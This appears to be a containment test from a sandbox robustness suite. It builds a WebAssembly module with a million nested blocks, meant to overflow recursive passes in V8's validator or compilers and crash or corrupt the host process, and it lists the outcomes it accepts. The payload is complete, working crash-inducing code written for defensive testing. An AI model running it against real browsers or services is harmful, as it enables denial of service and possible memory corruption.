# ATTACK: a WebAssembly function whose body nests 1,000,000 blocks (3 MB, under V8's function size limit), compiled eagerly and run, to overflow a recursive pass of V8's validator or compilers and crash or corrupt the host's process. CONTAINED: the process stays whole or ends cleanly: ok, a clean exception, or a crash reported as such; the process is gone after the call.
# expect: outcome=ok|exception|crashed|memory|timeout; limits=timeout:20
import js

r = await js.eval(r"""(async () => {
  const leb = (n) => { const o = []; do { let b = n & 127; n >>>= 7; if (n) b |= 128; o.push(b); } while (n); return o; };
  const depth = 1000000;
  const body = new Uint8Array(1 + depth * 2 + depth + 1);
  body[0] = 0; // no locals
  for (let i = 0; i < depth; i++) { body[1 + 2 * i] = 0x02; body[2 + 2 * i] = 0x40; }
  body.fill(0x0b, 1 + depth * 2);
  const code = [...leb(1), ...leb(body.length)];
  const head = [0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 1, 4, 1, 0x60, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 0x66, 0, 0];
  const codeSec = new Uint8Array(code.length + body.length); codeSec.set(code); codeSec.set(body, code.length);
  const mod = new Uint8Array(head.length + 1 + leb(codeSec.length).length + codeSec.length);
  mod.set(head); mod[head.length] = 10; mod.set(leb(codeSec.length), head.length + 1); mod.set(codeSec, head.length + 1 + leb(codeSec.length).length);
  try {
    const { instance } = await WebAssembly.instantiate(mod);
    instance.exports.f();
    return "compiled and ran";
  } catch (e) { return "refused: " + e; }
})()""")
result = str(r)
